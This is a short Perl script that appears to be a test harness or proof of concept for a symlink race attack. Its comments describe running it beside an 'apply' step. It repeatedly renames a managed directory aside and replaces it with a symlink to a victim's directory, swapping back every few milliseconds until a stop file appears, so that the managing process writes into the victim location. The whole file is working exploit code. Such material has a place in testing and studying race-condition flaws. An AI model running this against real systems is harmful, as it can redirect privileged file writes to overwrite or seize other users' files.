# Runs beside an apply: the directory of the managed files is a link to the victim's directory every other moment.
# perl swap-parent.pl DIRECTORY VICTIM STOP: until a file STOP is there.
use strict;
my ($directory, $victim, $stop) = @ARGV;
$victim =~ s{/[^/]*$}{};
until (-e $stop) {
  for (1 .. 50) {
    rename $directory, "$directory.away" and symlink $victim, $directory;
    select undef, undef, undef, 0.002;
    unlink $directory if -l $directory;
    rename "$directory.away", $directory unless -e $directory;
    select undef, undef, undef, 0.002;
  }
}
